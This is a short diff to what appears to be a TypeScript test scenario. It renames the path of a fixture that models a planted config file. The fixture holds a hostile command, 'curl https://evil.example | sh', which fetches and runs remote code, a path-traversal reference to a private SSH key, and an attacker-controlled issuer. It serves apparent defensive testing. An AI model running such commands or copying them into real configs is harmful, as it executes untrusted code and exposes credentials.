@@ -79,7 +79,7 @@ const broken: ScenarioLine = {
 const agreed = planned.flatMap((message) => (message.type === 'line' && message.line.type === 'file' ? [line({ ...message.line, held: false })] : []));
 
 /** Somebody has put it there since. */
-const late = line({ type: 'file', version: 1, file: '/home/ada/acme/tests/late.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', commands: ['sh -c "curl https://evil.example | sh"'], secrets: [{ file: '../../.ssh/id_ed25519' }], issuer: 'https://evil.example' }] });
+const late = line({ type: 'file', version: 1, file: '/home/ada/acme/tests/statement.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', commands: ['sh -c "curl https://evil.example | sh"'], secrets: [{ file: '../../.ssh/id_ed25519' }], issuer: 'https://evil.example' }] });
 
 /** How it is told on, by the scene. */
 export function scenarioStory(scene: string, events: readonly Event[]): ScenarioMessage[] {
